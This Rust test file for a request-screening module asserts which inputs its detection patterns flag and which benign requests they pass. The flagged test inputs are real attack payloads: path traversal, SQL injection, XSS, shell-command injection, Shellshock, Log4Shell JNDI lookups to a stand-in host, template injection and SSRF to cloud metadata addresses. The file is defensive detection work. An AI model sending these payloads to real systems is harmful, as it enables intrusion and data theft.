//! What the patterns find, and what they leave alone.

use std::sync::Arc;

use super::*;
use crate::config::{self, Environment};

fn screening(settings: &str) -> Arc<Screening> {
    let text = format!(
        "listeners: {{ http: {{ address: '127.0.0.1:0' }} }}\n\
         routes: {{ all: {{ endpoints: ['a:80'], screening: {settings} }} }}"
    );
    let loaded = config::parse(&text, "test.yaml", &Environment::empty(std::time::UNIX_EPOCH));
    Arc::clone(&loaded.unwrap_or_else(|report| panic!("{report}")).config.screenings[0])
}

fn found<'s>(screening: &'s Screening, part: ScreenedPart, text: &str) -> Option<&'s str> {
    let coding = match part {
        ScreenedPart::Path | ScreenedPart::Headers => Coding::Percent,
        ScreenedPart::Query => Coding::Form,
        ScreenedPart::Body => Coding::Json,
    };
    let number = find(screening.search(part)?, text.as_bytes(), &[coding])?;
    Some(name(screening, number))
}

#[test]
fn what_scanners_send_is_found() {
    use ScreenedPart::{Body, Headers, Path, Query};
    let all = screening("{}");
    for (part, text, expected) in [
        (Path, "/static/..%252f..%252fetc/passwd", "dot-segments"),
        (Path, "/public/..;/admin", "dot-segments"),
        (Query, "file=../../secret", "dot-segments"),
        (Query, "file=..%5c..%5cboot.ini", "dot-segments"),
        (Body, r#"{"name":"..\/..\/..\/..\/etc/shadow"}"#, "deep-dot-segments"),
        (Query, "f=/etc/passwd", "system-files"),
        (Query, "f=%2Fproc%2Fself%2Fenviron", "system-files"),
        (Path, "/.git/config", "hidden-files"),
        (Path, "/app/.env", "hidden-files"),
        (Path, "/a%2500.png", "nul-byte"),
        (Query, "id=1+UNION/**/ALL+SELECT+1,2", "sql-union"),
        (Query, "name=x'%20OR%20'1'='1", "sql-tautology"),
        (Query, "name=x%27)+or+1=1--", "sql-tautology"),
        (Query, "id=1;DROP+TABLE+users", "sql-stacked"),
        (Query, "id=1-SLEEP(5)", "sql-timing"),
        (Query, "id=1';WAITFOR+DELAY+'0:0:5'--", "sql-timing"),
        (Query, "q=%3Cscript%3Ealert(1)%3C/script%3E", "script"),
        (Query, "q=<img+src=x+onerror=alert(1)>", "script"),
        (Query, "next=javascript:alert(1)", "script"),
        (Query, "host=a;cat+/etc/hostname", "shell-command"),
        (Query, "host=a%7C%7Cwhoami", "shell-command"),
        (Query, "host=$(id)", "shell-command"),
        (Headers, "() { _; } ; echo vulnerable", "shellshock"),
        (Headers, "${jndi:ldap://x.test/a}", "jndi"),
        (Body, "{\"text\":\"${${lower:j}ndi:dns://x.test/a}\"}", "jndi"),
        (Body, "{\"text\":\"\\u0024\\u007bjndi:rmi://x.test/a}\"}", "jndi"),
        (Query, "name={{7*7}}", "template"),
        (Query, "name={{''.__class__.__mro__}}", "template"),
        (Query, "url=/x%0d%0aSet-Cookie:+a=b", "header-lines"),
        (Query, "page=php://filter/convert.base64-encode/resource=index", "stream-wrapper"),
        (Query, "url=http://169.254.169.254/latest/meta-data/iam", "metadata-address"),
        (Body, r#"{"url":"http:\/\/metadata.google.internal\/computeMetadata\/v1"}"#, "metadata-address"),
        (Query, "url=http://localhost:8080/admin", "loopback-address"),
        (Query, "url=https%3A%2F%2Fx%40127.0.0.1%2F", "loopback-address"),
        (Query, "url=http://[::1]/", "loopback-address"),
        (Body, r#"{"url":"gopher://10.0.0.1:6379/_INFO"}"#, "odd-scheme"),
        (Body, r#"{"url":"file:///etc/hostname"}"#, "odd-scheme"),
    ] {
        assert_eq!(found(&all, part, text), Some(expected), "{} {text}", part.word());
    }
}

#[test]
fn what_people_and_agents_send_is_left_alone() {
    use ScreenedPart::{Body, Headers, Path, Query};
    let all = screening("{}");
    for (part, text) in [
        (Path, "/v1/message:send"),
        (Path, "/.well-known/agent-card.json"),
        (Path, "/.well-known/openid-configuration"),
        (Path, "/files/report..2026.pdf"),
        (Path, "/a/...more"),
        (Path, "/caf%C3%A9/100%25"),
        (Query, "page=2&id=7&sort=-date"),
        (Query, "id=5;id=6"),
        (Query, "q=rock+%26+roll+or+jazz"),
        (Query, "q=union+station+select+service"),
        (Query, "q=it's+or+its"),
        (Query, "q=O'Brien+and+sons"),
        (Query, "note=Drop+table+tennis;+insert+coin"),
        (Query, "redirect=https%3A%2F%2Fagents.example%2Fcallback%3Fcode%3D1"),
        (Query, "tz=Europe/Berlin&range=1..5"),
        (Query, "q=a<b&b>c"),
        (Query, "token=eyJhbGciOiJFUzI1NiJ9.e30.c2ln"),
        (
            Headers,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
        ),
        (Headers, "a2a-python/1.0 (python 3.14; linux)"),
        (Headers, "https://agents.example/chat?next=%2Fhome"),
        (
            Body,
            r#"{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":{"message":{"parts":[{"text":"Why does SELECT a FROM b UNION SELECT c FROM d; DROP TABLE x fail?"}]}}}"#,
        ),
        (Body, r#"{"text":"run `cat /etc/hosts | grep localhost` and then import x from '../../lib'"}"#),
        (Body, r#"{"text":"<script>alert(1)</script> is a classic, ${name} is a template, {{7*7}} too"}"#),
        (Body, r#"{"url":"http://localhost:9999/webhook","path":"C:\\Users\\ann"}"#),
        (Body, "name=a&comment=100%25+sure"),
    ] {
        assert_eq!(found(&all, part, text), None, "{} {text}", part.word());
    }
}

#[test]
fn sets_exceptions_parts_and_patterns_of_ones_own() {
    use ScreenedPart::{Body, Path, Query};
    let some = screening(
        "{ sets: ssrf, except: loopback-address, parts: [path, query], \
           patterns: [{ name: php, regex: '(?i)[.]php$', parts: path }, { name: word, regex: 'sésame' }] }",
    );
    for (part, text, expected) in [
        (Path, "/index.PHP", Some("php")),
        (Query, "/index.php", None),
        (Query, "q=s%C3%A9same", Some("word")),
        (Query, "url=http://169.254.169.254/", Some("metadata-address")),
        (Query, "url=http://localhost/", None),
        (Query, "q=<script>", None),
        (Body, "http://169.254.169.254/", None),
    ] {
        assert_eq!(found(&some, part, text), expected, "{text}");
    }
    assert_eq!(some.to_string(), "4 patterns in path, query, only counted");
}

#[test]
fn a_long_text_is_searched_in_linear_time_and_to_its_end() {
    let (all, end) = (screening("{}"), screening("{ sets: [], patterns: [{ name: end, regex: 'the end' }] }"));
    for filler in ["${", "../", "'", "{{", "<", "\\u0024", "%25"] {
        let text = filler.repeat(MAX_BODY / filler.len());
        let _ = found(&all, ScreenedPart::Body, &text);
        assert_eq!(found(&end, ScreenedPart::Body, &text), None, "{filler}");
        for last in ["the end", "the \\u0065nd"] {
            assert_eq!(found(&end, ScreenedPart::Body, &format!("{text}{last}")), Some("end"), "{filler} {last}");
        }
    }
}
